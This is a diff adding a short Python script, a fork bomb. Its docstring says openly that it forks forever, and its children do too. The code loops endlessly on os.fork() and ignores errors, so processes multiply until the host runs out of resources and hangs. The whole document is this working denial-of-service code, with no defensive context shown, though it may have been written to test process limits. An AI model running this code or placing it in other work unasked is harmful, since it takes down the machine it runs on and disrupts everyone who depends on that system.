@@ -1,0 +1,9 @@
+"""Forks for ever, and so do its children."""
+
+import os
+
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
